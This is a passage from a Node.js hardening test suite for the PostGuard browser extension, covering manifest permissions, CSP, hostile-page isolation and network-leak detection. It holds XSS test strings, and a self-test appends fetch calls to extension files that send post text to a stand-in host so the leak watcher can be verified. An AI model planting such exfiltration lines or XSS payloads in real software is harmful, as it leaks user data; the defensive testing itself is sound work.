#!/usr/bin/env node
// PostGuard extension hardening tests (issue 6, part 4), run by run.mjs (so by `./build.sh test`)
// and standalone:
//
//   node tests/extension/hardening.mjs [--only=manifest,hostile,worker,settings,popup,memory,huge,storage,network]
//
// One Chromium session (the unpacked extension, the local HTTPS server playing the social sites,
// --remote-debugging-port so that a raw CDP connection can watch the network of every target,
// the service worker and the extension's own pages included) goes through:
//   manifest  the manifest's permissions, CSP and keys are the documented minimum; no
//             externally_connectable, no web_accessible_resources; managed_schema.json matches
//             settings.js; `web-ext lint` of the Firefox build: 0 errors, 0 warnings
//   hostile   a hostile page (www.pinterest.com): markup typed into the editor and in settings is
//             shown as text; main-world overrides of DOM and language built-ins, look-alike
//             globals and a hijacked <postguard-overlay> custom element change nothing and see no
//             PostGuard call; fake PostGuard messages do nothing; the overlay (closed shadow root)
//             and the card's texts cannot be read from the page, nor its buttons pressed; hidden
//             editors filled from script (the findings oracle) get no attribute and cause no
//             message to the worker; script edits in an editor the user typed into are checked
//   worker    the service worker stopped (CDP ServiceWorker.stopAllWorkers) between keystrokes
//             and in the middle of a check: the next check still arrives, with the right findings
//   settings  wrongly typed / unknown / huge / invalid settings in storage.local and in the managed
//             policy (stubbed in the worker) fall back field by field, the options page names
//             each bad field, the engine's own rejection is shown, and checking goes on
//   popup     the popup (as a tab) pauses and resumes the site; the attribute follows
//   private   settings stay private: a content-script request for settings, stats or tab
//             status is refused; content scripts cannot read storage.local (Chromium);
//             settings of an older version in storage.sync move to storage.local and leave sync
//   welcome   the first-run page opens on install, saves role / City accounts, and is skipped
//             when the organisation's policy sets the role
//   mode      the mode follows the posting identity each site family shows (X's account
//             switcher, Facebook's "posting as", LinkedIn's "post as", Reddit's account menu),
//             matched against the City accounts; URL rules match whole path segments
//   state     honest state: a failed check shows "!" on the field, the toolbar and the popup;
//             the popup counts findings minus dismissals, switches role and mode, names the
//             shortcut as set; switching off clears every tab's count; underlines stay under a
//             site's own mention pop-up
//   memory    a page creating and destroying 5 x 1,000 editors (some typed into): the renderer's
//             JS heap (CDP Runtime.getHeapUsage after HeapProfiler.collectGarbage; the content
//             script's isolated world lives in the same isolate) plateaus and PostGuard's
//             per-field state and overlay nodes are released
//   network   over all of the above: every request of the pages, the worker (Playwright's
//             service-worker network events, CDP Network on the worker and extension-page
//             targets, and the worker's own Resource Timing entries) goes only to the local test
//             server's page files or to chrome-extension://<PostGuard>/; the extension pages' CSP
//             blocks a request to anywhere else. Who made a request and where it goes decide
//             (lib/netpolicy.mjs): the browser's own UI (browser_ui targets, chrome:// pages)
//             loading chrome:// resources from its binary is listed, not counted.
//   network self-test  a copy of the extension that leaks from its worker, popup and content
//             script, and a web page's own fetch: the same watcher must catch each one
import fs from 'node:fs';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import os from 'node:os';
import { spawn } from 'node:child_process';
import { ROOT, ensureFixturePackages, bundlePages } from './lib/fixtures.mjs';
import { startServer } from './lib/server.mjs';
import { launch, extensionWorker, poll, sleep, EXT } from './lib/browser.mjs';
import { isolatedWorld, overlayElements, cardInfo } from './lib/isolated.mjs';
import { watchAllRequests } from './lib/cdpnet.mjs';
import { partitionRequests } from './lib/netpolicy.mjs';

const ATTR = 'data-postguard-findings';
const SNOWPLOW = 'As a City of Rochester snowplow driver I can tell you the new routes are a mess. Email me at jdoe@rochestermn.gov';
const CLEAN = 'Beautiful sunrise over Silver Lake this morning. Who else is heading to the farmers market?';
const SECRET = 'Project Bluebird';
const MARKUP_TERM = '<img src=x onerror=alert(1)>';
const MARKUP_DISCLAIMER = '</style><b>Mine</b><img src=x onerror=alert(2)><script>alert(3)</script>';
const MARKUP_POST = `As a City of Rochester snowplow driver: ${MARKUP_TERM} </style><b>bold</b> <script>alert(4)</script> ${SECRET} news. Email jdoe@rochestermn.gov`;
const SHOTS = path.join(ROOT, 'target/screenshots');
const q = (s) => JSON.stringify(s);

export async function runHardening({ record, only = null, bundle = false }) {
  const want = (name) => !only || only.includes(name);
  const G = (name) => `hardening · ${name}`;
  if (bundle) { ensureFixturePackages(); await bundlePages(); }

  // (f) manifest and schema: static; web-ext lint runs meanwhile in the background.
  const lint = want('manifest') ? startLint() : null;
  if (want('manifest')) checkManifest(record, G('manifest'));

  const srv = await startServer();
  const { context, close, userDataDir } = await launch({ hosts: srv.hosts, port: srv.port, extraArgs: ['--remote-debugging-port=0'] });
  const net = { requests: [], timing: [] };
  context.on('request', (r) => {
    const sw = !!r.serviceWorker?.();
    let page = '';
    if (!sw) try { page = r.frame().url(); } catch { /* no frame */ }
    net.requests.push({ url: r.url(), sw, page });
  });
  let cdpNet = null;
  try {
    let sw = await extensionWorker(context);
    const extId = new URL(sw.url()).host;
    const extOrigin = `chrome-extension://${extId}`;
    record(G('setup'), 'extension loaded', true, extOrigin);

    // A raw CDP connection to the same browser: Network on every target, each new one (pages,
    // the extension's pages, every restart of the worker) paused until Network is on.
    cdpNet = await watchAllRequests(await browserWsUrl(userDataDir));

    // An extension page as the test's handle on the background (stats) and storage.
    const ext = await context.newPage();
    await ext.goto(`${extOrigin}/popup.html`);
    await poll(() => ext.locator('#version').textContent(), (v) => /engine/.test(v), 8000); // its own messages (tab-status, stats) are done
    const bg = (msg) => ext.evaluate((m) => chrome.runtime.sendMessage(m), msg);
    // Restart the worker once now that every target is watched from its start: its requests
    // (the engine's .wasm) are then seen by CDP whatever Playwright's worker events catch.
    const swCdp = await context.newCDPSession(ext);
    await swCdp.send('ServiceWorker.enable');
    await swCdp.send('ServiceWorker.stopAllWorkers');
    await sleep(300);
    await poll(() => bg({ type: 'stats' }), (r) => r?.ok, 8000);
    await swCdp.detach().catch(() => {});
    const stats = async () => (await bg({ type: 'stats' }))?.stats ?? {};
    const storage = (area, op, arg) => ext.evaluate(([a, o, x]) => chrome.storage[a][o](x), [area, op, arg]);
    const workerTiming = async () => {
      try {
        const w = await extensionWorker(context, 3000);
        const e = await w.evaluate(() => performance.getEntriesByType('resource').map((r) => r.name));
        net.timing.push(...e.map((url) => ({ url, targetType: 'service_worker', targetUrl: w.url(), where: 'worker Resource Timing' })));
      } catch { /* stopped */ }
    };

    if (want('hostile')) await testHostile({ context, record, G: G('hostile page'), storage, stats });
    if (want('worker')) { await workerTiming(); await testWorkerStop({ context, record, G: G('worker stopped'), stats }); }
    if (want('settings')) await testSettings({ context, record, G: G('corrupt settings'), storage, extOrigin });
    if (want('popup')) await testPopup({ context, record, G: G('popup and options'), ext, extOrigin });
    if (want('private')) await testPrivate({ context, record, G: G('private settings'), storage, bg });
    if (want('welcome')) await testWelcome({ context, record, G: G('first-run set-up'), extOrigin });
    if (want('mode')) await testMode({ context, record, G: G('mode from the posting account'), storage, bg });
    if (want('state')) await testState({ context, record, G: G('honest state'), ext, extOrigin, storage, bg });
    if (want('memory')) await testMemory({ context, record, G: G('editor churn memory'), stats });

    if (want('huge')) await testHugePaste({ context, record, G: G('huge paste'), stats });
    if (want('storage')) await testNothingStored({ context, record, G: G('nothing stored'), ext });

    if (want('network')) {
      await workerTiming();
      for (const p of context.pages()) {
        if (!p.url().startsWith(extOrigin)) continue;
        const e = await p.evaluate(() => performance.getEntriesByType('resource').map((r) => r.name)).catch(() => []);
        net.timing.push(...e.map((url) => ({ url, targetType: 'page', targetUrl: p.url(), where: `Resource Timing of ${new URL(p.url()).pathname}` })));
      }
      // Who asked for what (netpolicy.mjs): the extension and the pages may reach only the test
      // server and PostGuard's own files; the browser's own UI (Chromium 156's omnibox pop-up is
      // a browser_ui target loading chrome://resources/...) may load from the browser's own
      // schemes, and is listed, never counted as a leak; nothing may reach any other network
      // address.
      const allowed = { hosts: srv.hosts, extensionOrigin: extOrigin };
      const all = [
        ...net.requests.map((r) => (r.sw
          ? { url: r.url, targetType: 'service_worker', targetUrl: `${extOrigin}/background.js`, where: 'service worker (Playwright)' }
          : { url: r.url, targetType: 'page', targetUrl: r.page, where: `page ${r.page}` })),
        ...cdpNet.requests.map((r) => ({ url: r.url, targetType: r.type, targetUrl: r.targetUrl, where: `CDP Network on ${r.type === 'service_worker' ? 'service worker' : r.type} ${r.targetUrl}` })),
        ...net.timing,
      ];
      const parts = partitionRequests(all, allowed);
      const offenders = parts.leak;
      const fromWorker = all.filter((r) => /worker/.test(r.where) && !/Resource Timing/.test(r.where) || r.where === 'worker Resource Timing');
      const extPages = all.filter((r) => /CDP Network on page chrome-extension:/.test(r.where) || /Resource Timing of/.test(r.where));
      const web = [...new Set(all.filter((r) => r.url.startsWith('https://')).map((r) => new URL(r.url).host))];
      const internalBy = [...new Set(parts.internal.map((r) => `${r.targetType} ${r.targetUrl}`))];
      record(G('network'), 'no request leaves the extension: only the test server\'s pages and PostGuard\'s own files', offenders.length === 0 && all.length > 0,
        offenders.length ? `${offenders.length} in all: ${offenders.slice(0, 8).map((r) => `${r.url} (${r.where}: ${r.why})`).join(' | ')}`
          : `${all.length} requests seen (${net.requests.length} by Playwright, ${cdpNet.requests.length} by CDP Network on ${cdpNet.targets().length} auto-attached targets [${[...new Set(cdpNet.targets().map((t) => t.type))].join(', ')}], ${net.timing.length} Resource Timing entries); worker: ${[...new Set(fromWorker.map((r) => new URL(r.url).pathname))].join(', ') || 'none'}; extension pages: ${[...new Set(extPages.map((r) => new URL(r.url).pathname))].join(', ')}; web hosts: ${web.join(', ')}`);
      // Listed so that a reader sees what was exempted and why (netpolicy.mjs): never a socket.
      console.log(`  allowed as the browser's own UI: ${parts.internal.length} loads from its own schemes by ${internalBy.length ? internalBy.join(', ') : 'no such target'}`);
      const workerOnly = fromWorker.every((r) => r.url.startsWith(extOrigin));
      const bySource = {};
      for (const r of fromWorker) bySource[r.where.replace(/ chrome-extension:.*/, '')] = (bySource[r.where.replace(/ chrome-extension:.*/, '')] ?? 0) + 1;
      console.log(`  worker requests by source: ${q(bySource)}`);
      const cdpSawWorker = fromWorker.some((r) => /CDP Network on service worker/.test(r.where));
      record(G('network'), 'the worker fetched only its own files (seen by CDP Network on the worker from its start)', workerOnly && cdpSawWorker, `${fromWorker.length} worker requests: ${[...new Set(fromWorker.map((r) => r.url.replace(extOrigin, '')))].join(', ')}`);
      const unknown = srv.log.filter((r) => !r.known);
      record(G('network'), 'the test server got only the pages\' own files (no /x from <img src=x>, no beacons)', unknown.length === 0, unknown.slice(0, 8).map((r) => `${r.method} https://${r.host}${r.path}`).join(' | ') || `${srv.log.length} requests`);
      // Defence in depth: the extension pages' CSP (connect-src 'self', img-src 'self') blocks
      // any request elsewhere even if code tried one.
      const csp = await ext.evaluate(async () => {
        const v = [];
        document.addEventListener('securitypolicyviolation', (e) => v.push(`${e.effectiveDirective} ${e.blockedURI}`));
        let fetched = 'no error';
        try { await fetch('https://mastodon.social/csp-probe'); } catch (e) { fetched = e.name; }
        const img = new Image();
        img.src = 'https://mastodon.social/csp-probe.png';
        await new Promise((r) => { img.onerror = r; img.onload = r; setTimeout(r, 1000); });
        await new Promise((r) => setTimeout(r, 100));
        return { fetched, violations: v };
      });
      const probes = srv.log.filter((r) => r.path.includes('csp-probe'));
      record(G('network'), 'extension pages\' CSP blocks fetch() and <img> to another origin', csp.fetched !== 'no error' && probes.length === 0 && csp.violations.length >= 2,
        `fetch → ${csp.fetched}; violations: ${csp.violations.join(', ')}; server saw ${probes.length} probe requests`);
    }
    // The checker above must still fail on a real leak: the same watcher and classifier over a
    // browser running a copy of the extension that leaks from each of its contexts.
    if (want('network')) await testLeakSelfTest({ record, G: G('network self-test'), srv });
  } catch (e) {
    record(G('harness'), 'exception', false, e.stack?.split('\n').slice(0, 4).join(' ') ?? String(e));
  } finally {
    try { cdpNet?.close(); } catch { /* gone */ }
    await close();
    await srv.close();
  }
  if (lint) {
    const r = await lint;
    record(G('manifest'), 'web-ext lint (Firefox build): 0 errors, 0 warnings', r.ok, r.detail);
  }
}

// ---- (f) manifest ----------------------------------------------------------------------------

// The packaged settings module (ES module; no browser API is touched at import).
const SETTINGS_MODULE = await import(pathToFileURL(path.join(EXT, 'settings.js')).href);

function checkManifest(record, G) {
  const m = JSON.parse(fs.readFileSync(path.join(EXT, 'manifest.json'), 'utf8'));
  const matches = m.content_scripts?.[0]?.matches ?? [];
  const eq = (a, b) => JSON.stringify(a) === JSON.stringify(b);
  record(G, 'no externally_connectable (no web page or other extension can message PostGuard)', !('externally_connectable' in m), JSON.stringify(m.externally_connectable ?? null));
  record(G, 'no web_accessible_resources (pages cannot load or fingerprint PostGuard\'s files)', !('web_accessible_resources' in m), JSON.stringify(m.web_accessible_resources ?? null));
  record(G, 'permissions are exactly storage and scripting', eq([...(m.permissions ?? [])].sort(), ['scripting', 'storage']), JSON.stringify(m.permissions));
  record(G, 'host_permissions are exactly the content scripts\' sites', eq(m.host_permissions, matches) && matches.every((p) => /^https:\/\/\*\.[a-z.]+\/\*$/.test(p)), `${matches.length} sites`);
  record(G, 'optional_host_permissions only https://*/* (asked per site)', eq(m.optional_host_permissions, ['https://*/*']), JSON.stringify(m.optional_host_permissions));
  const csp = m.content_security_policy?.extension_pages ?? '';
  const dirs = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([k, ...v]) => [k, v.join(' ')]));
  const cspOk = dirs['default-src'] === "'none'" && dirs['script-src'] === "'self' 'wasm-unsafe-eval'" && dirs['connect-src'] === "'self'" && dirs['object-src'] === "'none'"
    && !/unsafe-inline|unsafe-eval'|https?:|\*/.test(csp.replace("'wasm-unsafe-eval'", '')) && !m.content_security_policy?.sandbox;
  record(G, 'CSP: default-src \'none\', scripts only self (+ wasm), connections only self', cspOk, csp);
  const forbidden = ['tabs', 'activeTab', 'webRequest', 'webRequestBlocking', 'declarativeNetRequest', 'cookies', 'history', 'downloads', 'nativeMessaging', 'debugger', 'management', 'clipboardRead', 'clipboardWrite', 'identity', 'unlimitedStorage', 'offscreen', '<all_urls>'];
  const widened = [...(m.permissions ?? []), ...(m.optional_permissions ?? []), ...(m.host_permissions ?? [])].filter((p) => forbidden.includes(p));
  const keys = Object.keys(m).filter((k) => ['externally_connectable', 'web_accessible_resources', 'key', 'update_url', 'sandbox', 'chrome_url_overrides', 'devtools_page', 'oauth2', 'declarative_net_request', 'side_panel', 'file_browser_handlers', 'optional_permissions'].includes(k));
  record(G, 'no capability-widening permission or manifest key beyond those documented', widened.length === 0 && keys.length === 0, [...widened, ...keys].join(', '));
  const cs = m.content_scripts ?? [];
  record(G, 'content scripts: one entry, isolated world, https sites only', cs.length === 1 && !cs[0].world && matches.every((p) => p.startsWith('https://')), `world ${cs[0]?.world ?? 'ISOLATED (default)'}; all_frames ${cs[0]?.all_frames}; match_about_blank ${cs[0]?.match_about_blank}`);

  // managed_schema.json describes exactly the settings settings.js reads, with matching types.
  const schema = JSON.parse(fs.readFileSync(path.join(EXT, 'managed_schema.json'), 'utf8'));
  const src = fs.readFileSync(path.join(EXT, 'settings.js'), 'utf8');
  const defaults = /DEFAULTS = Object\.freeze\(\{([\s\S]*?)\}\);/.exec(src)?.[1] ?? '';
  const keysJs = [...defaults.matchAll(/^\s*(\w+):\s*([^,\n]+),?/gm)].map((x) => [x[1], x[2].trim()]);
  const problems = [];
  const props = schema.properties ?? {};
  for (const [k, d] of keysJs) {
    const p = props[k];
    if (!p) { problems.push(`${k}: not in the schema`); continue; }
    const type = d.startsWith('[') ? 'array' : d.startsWith('{') ? 'object' : 'string';
    if (p.type !== type) problems.push(`${k}: schema type ${p.type}, settings.js default is ${type}`);
    if (type === 'array' && p.items?.type !== 'string') problems.push(`${k}: items are not strings`);
  }
  for (const k of Object.keys(props)) if (!keysJs.some(([j]) => j === k)) problems.push(`${k}: in the schema, unknown to settings.js`);
  // The enums: what settings.js accepts (its lists come from vocab.mjs, generated from src/finding.rs).
  const S = SETTINGS_MODULE;
  for (const [what, schemaEnum, js] of [['role', props.role?.enum, S.ROLES], ['defaultMode', props.defaultMode?.enum, S.MODES],
    ['severity values', props.severity?.additionalProperties?.enum, S.SEVERITIES]]) {
    if (!js?.length || JSON.stringify(schemaEnum) !== JSON.stringify(js)) problems.push(`${what} enum ${JSON.stringify(schemaEnum)} vs settings.js ${JSON.stringify(js)}`);
  }
  if (schema.type !== 'object') problems.push('top level is not an object');
  record(G, 'managed_schema.json: exactly the settings of settings.js, same types and enums', problems.length === 0 && keysJs.length >= 10, problems.join('; ') || `${keysJs.length} keys`);
}

function startLint() {
  const dir = path.join(ROOT, 'target/extension/firefox');
  const bin = path.join(ROOT, 'node_modules/.bin/web-ext');
  return new Promise((resolve) => {
    if (!fs.existsSync(path.join(dir, 'manifest.json'))) { resolve({ ok: false, detail: 'target/extension/firefox is missing: run ./build.sh build (scripts/package-extension.sh)' }); return; }
    const stale = ['manifest.json', 'background.js', 'settings.js', 'options.js', 'content.js'].filter((f) => {
      if (f === 'manifest.json') {
        const a = JSON.parse(fs.readFileSync(path.join(EXT, f), 'utf8')), b = JSON.parse(fs.readFileSync(path.join(dir, f), 'utf8'));
        return JSON.stringify(a.content_security_policy) !== JSON.stringify(b.content_security_policy) || JSON.stringify(a.permissions) !== JSON.stringify(b.permissions);
      }
      try { return !fs.readFileSync(path.join(EXT, f)).equals(fs.readFileSync(path.join(dir, f))); } catch { return true; }
    });
    const p = spawn(bin, ['lint', '--source-dir', dir, '--output', 'json', '--no-input', '--no-config-discovery'], { cwd: ROOT, stdio: ['ignore', 'pipe', 'ignore'] });
    let out = '';
    p.stdout.on('data', (d) => { out += d; });
    p.on('close', () => {
      try {
        const r = JSON.parse(out.slice(out.indexOf('{')));
        const e = r.errors ?? [], w = r.warnings ?? [];
        const list = [...e, ...w].map((x) => `${x.code}${x.file ? ` (${x.file})` : ''}`).join(', ');
        resolve({ ok: e.length === 0 && w.length === 0 && stale.length === 0, detail: `${e.length} errors, ${w.length} warnings, ${(r.notices ?? []).length} notices${list ? `: ${list}` : ''}${stale.length ? `; target/extension/firefox is older than extension/ (${stale.join(', ')}): run scripts/package-extension.sh` : ''}` });
      } catch (err) { resolve({ ok: false, detail: `web-ext lint printed no report (${err.message})` }); }
    });
  });
}

// ---- network self-test: a leaking copy of the extension must be caught -----------------------

// 198.51.100.0/24 is TEST-NET-2 (RFC 5737): never routed, and --host-resolver-rules leaves IP
// literals alone, so the browser really tries to connect; the request is what CDP sees.
const LEAK_HOST = '198.51.100.7';

function leakyExtensionCopy() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pg-leaky-ext-'));
  fs.cpSync(EXT, dir, { recursive: true });
  const m = JSON.parse(fs.readFileSync(path.join(dir, 'manifest.json'), 'utf8'));
  // Let the extension pages' requests out (the shipped CSP would block them before the network:
  // the CSP has its own test; this one is about the watcher).
  m.content_security_policy.extension_pages = m.content_security_policy.extension_pages.replace("connect-src 'self'", `connect-src 'self' https://${LEAK_HOST}`);
  fs.writeFileSync(path.join(dir, 'manifest.json'), JSON.stringify(m, null, 2));
  const leak = (where) => `\n;fetch('https://${LEAK_HOST}/leak/${where}?text=' + encodeURIComponent('As a City snowplow driver')).catch(() => {});\n`;
  fs.appendFileSync(path.join(dir, 'background.js'), leak('worker'));
  fs.appendFileSync(path.join(dir, 'popup.js'), leak('popup'));
  fs.appendFileSync(path.join(dir, 'content.js'), leak('content-script'));
  return dir;
}

async function testLeakSelfTest({ record, G, srv }) {
  const dir = leakyExtensionCopy();
  const { context, close, userDataDir } = await launch({ hosts: srv.hosts, port: srv.port, extensionDir: dir, extraArgs: ['--remote-debugging-port=0'] });
  let watch = null;
  try {
    const sw = await extensionWorker(context);
    const extOrigin = `chrome-extension://${new URL(sw.url()).host}`;
    watch = await watchAllRequests(await browserWsUrl(userDataDir));
    // Restart the worker under the watcher: its top-level fetch runs again, seen from its start.
    const popup = await context.newPage();
    const cdp = await context.newCDPSession(popup);
    await cdp.send('ServiceWorker.enable');
    await cdp.send('ServiceWorker.stopAllWorkers');
    await cdp.detach().catch(() => {});
    await popup.goto(`${extOrigin}/popup.html`);
    const site = await context.newPage();
    await site.goto(`https://${srv.byHost.get('x.com') ? 'x.com' : srv.hosts[0]}/`);
    // A web page's own script (no CSP on about:blank): "any target" reaching the network.
    const blank = await context.newPage();
    await blank.goto('about:blank');
    await blank.evaluate((h) => fetch(`https://${h}/leak/page-script`).catch(() => {}), LEAK_HOST);
    const seenLeak = (where) => watch.requests.some((r) => r.url.includes(`/leak/${where}`));
    await poll(() => ['worker', 'popup', 'content-script', 'page-script'].every(seenLeak), (v) => v, 6000);
    // The worker's restart can come before the watcher has attached to the new worker target
    // on a loaded machine (seen once in eight runs, and once twice in a row; on 2026-12-07 once
    // four times in a row late in a full .ci/run, and then 3 of 3 alone): restart it again, up
    // to seven starts in all, and wait for its fetch. What is asserted below is unchanged: the
    // worker's request must be seen and attributed to the worker.
    let restarts = 1;
    while (!seenLeak('worker') && restarts < 7) {
      restarts++;
      await sleep(500 * restarts); // let the watcher finish attaching before the next start
      const again = await context.newCDPSession(popup);
      await again.send('ServiceWorker.enable');
      await again.send('ServiceWorker.stopAllWorkers');
      await again.detach().catch(() => {});
      await popup.reload();
      await poll(() => seenLeak('worker'), (v) => v, 10000);
    }
    const seen = watch.requests.map((r) => ({ url: r.url, targetType: r.type, targetUrl: r.targetUrl }));
    const { leak } = partitionRequests(seen, { hosts: srv.hosts, extensionOrigin: extOrigin });
    const caught = (where, type) => leak.find((r) => r.url.includes(`/leak/${where}`) && (!type || r.targetType === type));
    const show = (r) => (r ? `${r.targetType} ${r.targetUrl} → ${r.url}` : 'NOT CAUGHT');
    record(G, 'a fetch to a non-local address from the service worker is caught and attributed to it', !!caught('worker', 'service_worker'), `${show(caught('worker'))} (worker started ${restarts} time(s) under the watcher)`);
    record(G, 'a fetch from an extension page (the popup) is caught and attributed to it', !!caught('popup', 'page') && caught('popup').targetUrl.startsWith(extOrigin), show(caught('popup')));
    record(G, 'a fetch from the content script is caught on the web page\'s frame', !!caught('content-script'), show(caught('content-script')));
    record(G, 'a web page\'s own fetch to a non-local address is caught', !!caught('page-script', 'page'), show(caught('page-script')));
    record(G, 'nothing else of the leaking build is misattributed: every leak is one of the planted ones', leak.every((r) => r.url.includes(`${LEAK_HOST}/leak/`)),
      leak.filter((r) => !r.url.includes(`${LEAK_HOST}/leak/`)).slice(0, 5).map((r) => `${r.url} (${r.why})`).join(' | ') || `${leak.length} planted leaks`);
  } catch (e) {
    record(G, 'harness', false, e.stack?.split('\n').slice(0, 4).join(' ') ?? String(e));
  } finally {
    try { watch?.close(); } catch { /* gone */ }
    await close();
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

async function browserWsUrl(userDataDir) {
  const f = path.join(userDataDir, 'DevToolsActivePort');
  const r = await poll(() => fs.existsSync(f) && fs.readFileSync(f, 'utf8').split('\n'), (v) => v && v[1], 5000);
  if (!r.ok) throw new Error('no DevToolsActivePort');
  return `ws://127.0.0.1:${r.value[0]}${r.value[1]}`;
}

// ---- helpers ---------------------------------------------------------------------------------

async function openPage(context, host) {
  const page = await context.newPage();
  page.setDefaultTimeout(8000);
  const errors = [];
  page.on('pageerror', (e) => errors.push(`pageerror: ${e.message}`));
  page.on('console', (m) => { if (m.type() === 'error') errors.push(`console.error: ${m.text()}`); });
  const dialogs = [];
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss().catch(() => {}); });
  await page.goto(`https://${host}/`, { waitUntil: 'load' });
  await poll(() => page.evaluate(() => window.__editorReady === true), (v) => v === true, 10000);
  await sleep(300); // content scripts run at document_idle
  return { page, errors, dialogs };
}

const attrOf = (page, sel) => page.locator(sel).getAttribute(ATTR, { timeout: 2000 });
const diffCounts = (a = {}, b = {}) => Object.fromEntries(Object.keys({ ...a, ...b }).map((k) => [k, (b[k] ?? 0) - (a[k] ?? 0)]).filter(([, v]) => v));

async function clickIn(page, world, selector, pick = (els) => els[0]) {
  const els = await world.evaluate(page.mainFrame(), overlayElements, { selector });
  const el = els?.length ? pick(els) : null;
  if (!el) return false;
  await page.mouse.click((el.rect.left + el.rect.right) / 2, (el.rect.top + el.rect.bottom) / 2);
  return true;
}

// Opens the card through the badge and moves on to the finding of `category`.
async function cardFor(page, world, category) {
  const badge = await poll(() => world.evaluate(page.mainFrame(), overlayElements, { selector: '.pg-badge' }), (v) => v?.length > 0, 3000);
  if (!badge.ok) return { why: 'no badge drawn' };
  await clickIn(page, world, '.pg-badge');
  for (let i = 0; i < 8; i++) {
    const c = await poll(() => world.evaluate(page.mainFrame(), cardInfo), (v) => !!v && !/Loading/.test(v.clause), 2000);
    if (!c.ok) return { why: 'the badge opened no card' };
    if (c.value.category === category) return { card: c.value };
    const next = c.value.buttons.find((b) => b.cls.includes('pg-next'));
    if (!next) return { why: `no card for ${category} (last: ${c.value.category})` };
    await page.mouse.click((next.rect.left + next.rect.right) / 2, (next.rect.top + next.rect.bottom) / 2);
    await sleep(150);
  }
  return { why: `no card for ${category}` };
}

// ---- (b) the hostile page ----------------------------------------------------------------------

async function testHostile({ context, record, G, storage, stats }) {
  // Settings with markup in them (shown in the card) and a "secret" confidential term.
  await storage('local', 'set', { confidentialTerms: [SECRET, MARKUP_TERM], disclaimerText: MARKUP_DISCLAIMER });
  await sleep(300);
  const { page, errors, dialogs } = await openPage(context, 'www.pinterest.com');
  try {
    const world = await isolatedWorld(page);
    const ctx = world.contexts().filter((c) => c.auxData?.frameId && c.auxData.frameId === world.contexts().find((x) => x.auxData?.isDefault)?.auxData.frameId);
    const iso = ctx.find((c) => c.auxData?.type === 'isolated' && /postguard/i.test(c.name));
    record(G, 'PostGuard\'s content scripts run in their own isolated world, not the page\'s', !!iso, ctx.map((c) => `${c.name || '(page)'}:${c.auxData?.type}`).join(', '));
    const s0 = await stats();

    // Fake PostGuard messages: postMessage, custom events, the shortcut's keys dispatched.
    const n = await page.evaluate(() => window.__hostile.fakeMessages());
    await sleep(1000);
    const s1 = await stats();
    const got = diffCounts(s0.received, s1.received);
    delete got.stats;
    const traces = await page.evaluate(() => ({ attrs: document.querySelectorAll('[data-postguard-findings]').length, hosts: document.querySelectorAll('postguard-overlay, [data-postguard-overlay]').length }));
    record(G, `${n} fake PostGuard messages (postMessage, CustomEvent, dispatched Alt+Shift+O) do nothing`, Object.keys(got).length === 0 && traces.attrs === 0 && traces.hosts === 0,
      `worker messages ${q(got)}; attributes ${traces.attrs}; overlays ${traces.hosts}`);

    // The oracle: hidden editors, filled from script.
    const made = await page.evaluate((t) => window.__hostile.oracle(t), SECRET);
    await sleep(1500);
    const s2 = await stats();
    const oracleAttrs = await page.evaluate(() => window.__hostile.oracleAttributes());
    await page.evaluate(() => document.querySelectorAll('.oracle').forEach((e) => e.remove()));
    const msgs = diffCounts(s1.received, s2.received);
    delete msgs.stats;
    record(G, `findings oracle: ${made} hidden editors filled from script (focus(), execCommand, synthetic key/paste/input/composition events) get no attribute and send nothing`,
      oracleAttrs.every((a) => a === null) && Object.keys(msgs).length === 0, `attributes ${q(oracleAttrs)}; worker messages ${q(msgs)}`);

    // The user types markup into the contenteditable, with the page's built-ins wrapped and counted.
    await page.locator('#rec').click();
    await page.locator('#ce').click();
    await page.keyboard.type(MARKUP_POST, { delay: 3 });
    const a = await poll(() => attrOf(page, '#ce'), (v) => v === 'city-email confidential disclaimer', 6000);
    record(G, 'typing markup and a confidential term into the editor: checked as text', a.ok, `attribute ${q(a.value)}`);
    const u = await poll(() => world.evaluate(page.mainFrame(), overlayElements, { selector: '.pg-underline' }), (v) => v?.length >= 3, 3000);
    record(G, 'underlines drawn despite the page\'s overrides and its own <postguard-overlay> element', u.ok, `${u.value?.length ?? 0} underline boxes`);
    const { card, why } = await cardFor(page, world, 'disclaimer');
    let tags = null;
    if (card) {
      tags = await world.evaluate(page.mainFrame(), () => {
        const root = globalThis.PostGuard.overlayShadow();
        const names = {};
        for (const e of root.querySelectorAll('*')) names[e.localName] = (names[e.localName] ?? 0) + 1;
        return { names, message: root.querySelector('.pg-card .pg-message')?.textContent ?? '' };
      });
    }
    const allowed = new Set(['style', 'div', 'span', 'button', 'code', 'p']);
    const foreign = tags ? Object.keys(tags.names).filter((t) => !allowed.has(t)) : ['(no card)'];
    record(G, 'markup from settings (disclaimer text) is shown in the card as text, never as elements', !!card && tags.message.includes(MARKUP_DISCLAIMER) && foreign.length === 0 && tags.names.style === 1,
      card ? `card message ${q(tags.message.slice(-110))}; elements in the overlay: ${q(tags.names)}` : why);

    await page.locator('#rec').click(); // recording off (a real click: no test code ran in the page's world meanwhile)
    const H = await page.evaluate(() => ({ calls: window.__hostile.calls, fake: window.__hostile.fakeSendMessage, ce: window.__hostile.ceConstructed, recording: window.__hostile.recording }));
    record(G, 'no PostGuard code ran in the page\'s world (wrapped attachShadow, appendChild, addEventListener, JSON.parse, String/Array methods, ... never called) and its fake chrome.runtime / PostGuard globals were not used',
      Object.keys(H.calls).length === 0 && H.fake === 0 && !H.recording, `calls while PostGuard checked, drew and opened the card: ${q(H.calls)}; fake sendMessage ${H.fake}; page's <postguard-overlay> constructor ran ${H.ce}×`);

    // The page tries to press the card's fix button (where it is drawn on screen).
    const again = await cardFor(page, world, 'disclaimer');
    if (again.card) {
      const fix = again.card.buttons.find((b) => b.cls.includes('pg-fix'));
      // What the page can read of the overlay, with the card open.
      const seen = await page.evaluate(() => window.__hostile.readOverlay());
      const secrets = ['the policy asks for a disclaimer such as', 'Dismiss for this post', 'checks on this device', 'City Representative chooses to identify'];
      const leaks = secrets.filter((t) => ['innerText', 'textContent', 'outerHTML', 'getHTML', 'selected'].some((k) => seen[k].includes(t)));
      record(G, 'the overlay\'s shadow root is closed and the card\'s texts (message, clause, buttons) cannot be read from the page',
        seen.hosts.length === 1 && seen.shadowRoots.every((r) => r === null) && seen.stolenChildren.every((c) => c === 0) && leaks.length === 0,
